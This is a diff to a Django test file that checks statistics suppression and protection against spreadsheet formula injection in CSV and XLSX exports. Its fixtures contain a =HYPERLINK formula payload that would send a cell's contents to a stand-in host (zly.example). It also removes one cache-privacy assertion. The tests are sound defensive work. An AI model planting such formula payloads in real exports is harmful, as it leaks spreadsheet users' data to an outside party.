@@ -1,6 +1,8 @@
 """The administrator and the edges (issue 11, section 4): the admin, exports, the public
 verification page, statistics, sign-in, caching and the password page."""
 
+import datetime
+
 import pytest
 from django.contrib.auth import get_user_model
 from django_otp.plugins.otp_totp.models import TOTPDevice
@@ -342,7 +344,6 @@ def test_signed_in_pages_and_downloads_are_never_stored(
         response = client.get(url, follow=url == "/")
         assert response.status_code == 200, url
         assert "no-store" in response["Cache-Control"], url
-        assert "private" in response["Cache-Control"], url
         response.close()
     client.logout()
     # The public pages of an anonymous visitor may be cached.
@@ -390,3 +391,123 @@ def test_a_signed_in_user_changes_their_password_and_it_is_an_event(client, worl
     assert event.payload == {"object": world.social_worker.pk, "user": world.social_worker.pk}
     # Still signed in.
     assert client.get("/password/done/").status_code == 200
+
+
+# --- centre statistics and exports -----------------------------------------------------------
+
+
+@pytest.fixture
+def centre(world):
+    from centre.models import Centre, CentreStaff
+
+    centre = Centre.objects.create(
+        name='=HYPERLINK("http://zly.example/?x="&A1,"Kliknij")',
+        county="powiat testowy",
+        municipality=world.team.municipality,
+        address="ul. Jawna 1, 00-001 Testowo",
+    )
+    # The psychologist sits on the team; the night duty worker takes no part in procedures.
+    CentreStaff.objects.create(user=world.oik_psychologist, centre=centre, function="psycholog")
+    night = UserFactory(username="dyzurny", first_name="Nocny", last_name="Dyżur")
+    CentreStaff.objects.create(user=night, centre=centre, function="dyżur nocny")
+    return centre
+
+
+def _day_window(client, language="en"):
+    today = datetime.date.today().isoformat()
+    return client.get(
+        f"/centre/statistics/?start={today}&end={today}", HTTP_ACCEPT_LANGUAGE=language
+    )
+
+
+def test_one_day_of_procedure_figures_is_suppressed_for_staff_outside_procedures(
+    client, world, centre
+):
+    from django.contrib.auth import get_user_model
+
+    drive(world, to=Stage.ACTIONS)
+    night = get_user_model().objects.get(username="dyzurny")
+
+    client.force_login(night)
+    response = _day_window(client)
+    stats = response.context["stats"]
+    assert stats.value("procedures", "NK-A filled") == "<3"
+    assert stats.value("procedures", "girls") == "<3"
+    assert stats.value("nka_by_sector", "education") == "<3"
+    assert stats.value("nka_by_sector", "Police") == 0  # a zero reveals no one
+    page = _day_window(client, "pl").content.decode()
+    assert "&lt;3" in page and "oznacza liczbę od 1 do 2" in page
+    assert "nka_by_sector" not in response.context["charts"]
+    # The export says the same.
+    today = datetime.date.today().isoformat()
+    exported = client.get(f"/centre/statistics/?start={today}&end={today}&export=csv")
+    assert "NK-A filled" not in exported.content.decode()  # Polish headers
+    assert "<3" in exported.content.decode()
+
+    # Someone who works in the procedures sees the figures.
+    client.force_login(world.oik_psychologist)
+    stats = _day_window(client).context["stats"]
+    assert stats.value("procedures", "NK-A filled") == 1
+    assert stats.value("nka_by_sector", "education") == 1
+
+
+def test_the_minimum_cell_is_a_setting(client, world, centre, settings):
+    from django.contrib.auth import get_user_model
+
+    settings.OIK_STATISTICS_MIN_CELL = 5
+    for _ in range(3):
+        drive(world, to=Stage.INITIATED)
+    client.force_login(get_user_model().objects.get(username="dyzurny"))
+    stats = _day_window(client).context["stats"]
+    assert stats.value("procedures", "NK-A filled") == "<5"
+    # The centre's own figures are never suppressed.
+    assert stats.value("summary", "consultations") == 0
+
+
+def test_a_centre_name_that_is_a_formula_is_exported_as_text(client, world, centre):
+    import io
+
+    import openpyxl
+
+    client.force_login(world.oik_psychologist)
+    base = "/centre/statistics/?start=2024-01-01&end=2025-12-31&export="
+    text = client.get(base + "csv").content.decode()
+    xlsx = client.get(base + "xlsx").content
+    # XLSX: the name is a text cell, exactly as typed, never a formula.
+    workbook = openpyxl.load_workbook(io.BytesIO(xlsx))
+    cell = workbook.worksheets[0]["A1"]
+    assert cell.data_type == "s"
+    assert cell.value.startswith(centre.name)
+    assert b"<f>" not in xlsx  # no formula anywhere in the workbook's XML
+    import zipfile
+
+    with zipfile.ZipFile(io.BytesIO(xlsx)) as archive:
+        sheets = [archive.read(n) for n in archive.namelist() if n.startswith("xl/worksheets/")]
+    assert not any(b"<f>" in sheet for sheet in sheets)
+    # CSV: the name is prefixed with an apostrophe, so no spreadsheet runs it.
+    assert f"'{centre.name}".replace('"', '""') in text
+    assert '"=HYPERLINK' not in text and ",=HYPERLINK" not in text
+
+
+def test_every_csv_cell_that_a_spreadsheet_would_run_is_text():
+    import io
+
+    from oik_site.exports import SafeCSVWriter
+
+    buffer = io.StringIO()
+    SafeCSVWriter(buffer).writerows(
+        [["=1+1", "+48 600", "-2+3", "@SUM(A1)", "\t=x", "\r=x", "zwykły", 5, -3]]
+    )
+    assert buffer.getvalue().strip() == "'=1+1,'+48 600,'-2+3,'@SUM(A1),'\t=x,\"'\r=x\",zwykły,5,-3"
+
+
+def test_the_audit_timeline_csv_writes_a_formula_name_as_text(client, world):
+    procedure = drive(world, to=Stage.WITH_CHAIR)
+    world.teacher.first_name = '=HYPERLINK("http://zly.example")'
+    world.teacher.save()
+    client.force_login(world.chair)
+    response = client.get(f"/procedures/{procedure.pk}/timeline/?export=csv")
+    assert response.status_code == 200
+    text = response.content.decode()
+    assert "'=HYPERLINK" in text
+    assert ",=HYPERLINK" not in text and '"=HYPERLINK' not in text
